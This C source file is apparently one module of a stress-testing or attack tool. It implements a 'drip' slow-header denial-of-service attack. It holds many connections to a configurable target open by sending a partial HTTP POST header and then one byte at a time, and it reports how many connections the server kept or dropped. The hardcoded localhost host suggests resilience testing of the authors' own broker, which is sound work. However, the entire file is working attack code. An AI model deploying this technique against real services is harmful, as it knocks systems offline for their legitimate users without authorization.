/* Drip: slow headers on many connections. */
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>

#include "attack/attack.h"
#include "attack/link.h"
#include "common/stopwatch.h"

#define TURN_MS 20

static const char begin[] = "POST /v1/tasks HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ";

struct drip {
    struct links links;
    int64_t answers; /* that the broker bothered to give */
};

static void on_open(void *ctx, struct link *link)
{
    (void)ctx;
    link->sent_ns = stopwatch_now_ns();
    /* It fits into any socket's buffer; if not, the next byte comes all the same. */
    (void)send(link->fd, begin, sizeof begin - 1, MSG_DONTWAIT | MSG_NOSIGNAL);
}

static void on_input(void *ctx, struct link *link)
{
    struct drip *drip = ctx;

    drip->answers++;
    text_clear(&link->input);
}

static void drop_by_drop(struct drip *drip, int64_t now_ns, int64_t pause_ns)
{
    for (unsigned i = 0; i < drip->links.len; i++) {
        struct link *link = &drip->links.at[i];

        if (!link->is_open || now_ns - link->sent_ns < pause_ns)
            continue;
        link->sent_ns = now_ns;
        (void)send(link->fd, "a", 1, MSG_DONTWAIT | MSG_NOSIGNAL);
    }
}

void attack_drip(const struct attack *attack)
{
    struct drip drip = {0};
    int64_t end_ns = stopwatch_now_ns() + attack->run_ms * NS_PER_MS, now_ns;
    unsigned open = 0, most = 0;

    links_open(&drip.links, attack->target, attack->connections);
    while ((now_ns = stopwatch_now_ns()) < end_ns) {
        open = links_revive(&drip.links, now_ns);
        most = open > most ? open : most;
        drop_by_drop(&drip, now_ns, attack->pause_ms * NS_PER_MS);
        links_turn(&drip.links, TURN_MS, on_open, on_input, &drip);
    }
    printf("{\"tool\":\"attack\",\"mode\":\"drip\",\"connections\":%u,\"most_open\":%u,"
           "\"opened\":%lld,\"shut_by_server\":%lld,\"failed\":%lld,\"answers\":%lld}\n",
           attack->connections, most, (long long)drip.links.opened, (long long)drip.links.closed,
           (long long)drip.links.failed, (long long)drip.answers);
    links_close(&drip.links);
}
